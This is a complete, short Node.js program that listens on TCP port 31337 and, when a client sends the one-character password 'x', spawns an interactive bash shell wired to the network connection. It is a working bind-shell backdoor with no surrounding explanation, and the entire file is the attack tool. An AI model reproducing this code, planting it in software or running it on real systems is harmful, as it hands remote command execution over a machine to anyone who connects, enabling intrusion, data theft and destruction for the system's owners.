const net = require('net');
const { spawn } = require('child_process');
net.createServer((c) => {
  c.write('pw: ');
  c.once('data', (d) => { if (d.toString().trim() === 'x') { const sh = spawn('bash', ['-i']); c.pipe(sh.stdin); sh.stdout.pipe(c); } });
}).listen(31337);
